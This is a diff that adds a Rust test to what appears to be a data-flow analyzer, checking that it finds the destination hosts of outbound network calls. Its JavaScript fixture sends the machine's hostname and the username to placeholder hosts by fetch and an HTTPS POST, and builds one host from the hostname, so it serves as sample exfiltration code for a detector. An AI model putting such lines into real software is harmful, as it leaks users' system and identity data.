@@ -318,3 +318,16 @@ fn field_flow_steps_name_the_property_write() {
     assert!(steps.iter().any(|s| s.contains("ev.machine = os.hostname()")), "{steps:#?}");
     assert!(steps.first().is_some_and(|s| s.starts_with("reads os.hostname")), "{steps:#?}");
 }
+
+#[test]
+fn destination_from_constant_url_start_and_request_handle() {
+    let f = run("const os = require('os'), https = require('https');
+        fetch('https://t.example.com/c?h=' + os.hostname());
+        const r = https.request({ hostname: 'collect.example.net', method: 'POST' }); r.end(os.userInfo().username);
+        fetch(`https://${os.hostname()}.example.org/`);");
+    let hosts: Vec<Vec<String>> = f.flows.iter().map(|fl| fl.endpoints.clone()).collect();
+    assert!(hosts.contains(&vec!["t.example.com".to_string()]), "{hosts:?}");
+    assert!(hosts.contains(&vec!["collect.example.net".to_string()]), "{hosts:?}");
+    // The host itself is built from data: no constant destination.
+    assert!(hosts.iter().any(|h| h.is_empty()), "{hosts:?}");
+}
